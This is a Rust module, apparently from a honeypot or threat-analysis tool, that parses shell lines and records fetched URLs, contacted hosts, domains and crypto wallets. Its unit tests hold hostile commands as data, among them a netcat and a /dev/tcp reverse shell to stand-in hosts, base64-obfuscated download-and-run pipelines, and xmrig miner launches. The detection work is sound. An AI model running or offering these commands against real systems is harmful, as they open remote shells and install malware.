//! A typed line: what its commands fetch, where they connect, whose keys and wallets they bring.

use vespid_model::ObservableKind;
use vespid_shell::{Line, Mapped, SimpleCommand};

use super::{Seen, host, key, shape, text, wallet};

/// Programs that fetch; their operands may lack the scheme.
const FETCH: [&str; 8] = ["wget", "curl", "fetch", "axel", "aria2c", "lwp-download", "lwp-request", "http"];
/// Programs that connect to a host named by an operand.
const CONNECT: [&str; 12] =
    ["tftp", "ftpget", "ftpput", "ftp", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "rsync", "socat"];
/// Programs that ask for a name.
const LOOK_UP: [&str; 6] = ["ping", "nslookup", "dig", "host", "traceroute", "whois"];

pub(super) fn observe(raw: &str, line: &Line, seen: &mut Seen) {
    anything(raw, seen);
    let mut around = "";
    for command in &line.commands {
        let text = command.line.as_str();
        if !is_end_of(text, around) {
            around = text;
            if !is_end_of(text, raw) {
                anything(text, seen);
            }
        }
        // A word of one is no word of the other where it stood in a redirection.
        command.argv.iter().for_each(|word| text::links(word.as_str(), seen));
        one(command, seen);
    }
    // A here-document and what lies behind a limit are in no command. Keys have spaces in them.
    if raw.contains("<<") || line.truncated {
        text::links(raw, seen);
    }
    let shape = shape::shape(line);
    // `uname -a` and `whoami` are everybody's.
    if shape.contains("; ") || shape.split(' ').count() > 2 {
        seen.add(ObservableKind::CommandShape, &shape);
    }
}

fn anything(text: &str, seen: &mut Seen) {
    key::find(text, seen);
    wallet::find(text, seen);
    host::socket(text, seen);
}

/// Is a text the last words of another, as a command is of the wrapper that runs it? It shows nothing more then.
fn is_end_of(text: &str, around: &str) -> bool {
    around.strip_suffix(text).is_some_and(|before| before.is_empty() || before.ends_with(' '))
}

fn one(command: &SimpleCommand, seen: &mut Seen) {
    let program = command.image.as_deref().and_then(|image| image.rsplit('/').next()).unwrap_or_default();
    for word in command.argv.iter().skip(1).map(Mapped::as_str) {
        if FETCH.contains(&program) {
            host::operand(word, seen);
        } else if CONNECT.contains(&program) {
            host::connected(word, seen);
        } else if LOOK_UP.contains(&program) {
            host::name(word, seen);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        let mut seen = Seen::default();
        observe(text, &vespid_shell::parse(text), &mut seen);
        let found = seen.into_vec();
        let found = found.iter().filter(|it| it.kind() != ObservableKind::CommandShape);
        found.map(|it| format!("{} {}", it.kind(), it.value())).collect()
    }

    #[test]
    fn what_wrappers_run_is_seen_once_and_what_they_make_of_it_too() {
        let wallet = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4";
        assert_eq!(
            found("sudo nohup nice wget http://192.0.2.7/x"),
            ["url http://192.0.2.7/x", "host 192.0.2.7"]
        );
        assert_eq!(found(&format!("sudo env a=b ./xmrig -u {wallet}")), [format!("wallet {wallet}")]);
        // Only the shell puts the halves together.
        let (one, other) = wallet.split_at(20);
        assert_eq!(found(&format!("sudo sh -c './xmrig -u {one}\"\"{other}'")), [format!("wallet {wallet}")]);
        assert_eq!(found(&format!("x{wallet};{wallet}")), [format!("wallet {wallet}")]);
        // bash <<< "wget http://192.0.2.7/x"
        assert_eq!(
            found("echo YmFzaCA8PDwgIndnZXQgaHR0cDovLzE5Mi4wLjIuNy94Ig== | base64 -d | sh"),
            ["url http://192.0.2.7/x", "host 192.0.2.7"]
        );
    }

    #[test]
    fn what_is_fetched_and_from_where() {
        assert_eq!(
            found("cd /tmp; busybox wget http://192.0.2.7/x.sh -O x.sh || curl -O 192.0.2.8/x.sh"),
            ["url http://192.0.2.7/x.sh", "url http://192.0.2.8/x.sh", "host 192.0.2.7", "host 192.0.2.8"]
        );
        assert_eq!(found("tftp -g -r x.sh 192.0.2.9"), ["host 192.0.2.9"]);
        assert_eq!(found("nc evil.example 4444 -e /bin/sh"), ["host evil.example"]);
        assert_eq!(found("ping -c 1 Evil.Example"), ["domain evil.example"]);
        assert_eq!(found("bash -i >& /dev/tcp/203.0.113.8/4444 0>&1"), ["host 203.0.113.8"]);
    }

    #[test]
    fn what_is_hidden_is_found() {
        // echo 'wget http://192.0.2.7/m' | base64
        assert_eq!(
            found("echo d2dldCBodHRwOi8vMTkyLjAuMi43L20K | base64 -d | sh"),
            ["url http://192.0.2.7/m", "host 192.0.2.7"]
        );
        assert_eq!(found("w''get ht\"\"tp://192.0.2.7/m"), ["url http://192.0.2.7/m", "host 192.0.2.7"]);
        assert_eq!(
            found("cat > x <<E\ncurl http://192.0.2.7/m|sh\nE"),
            ["url http://192.0.2.7/m", "host 192.0.2.7"]
        );
    }

    #[test]
    fn what_stays_at_home_is_nothing() {
        for text in [
            "wget http://127.0.0.1/x",
            "ssh localhost",
            "cat /etc/passwd",
            "chmod 777 a.sh; ./a.sh",
            "scp a.sh b.sh",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }
}
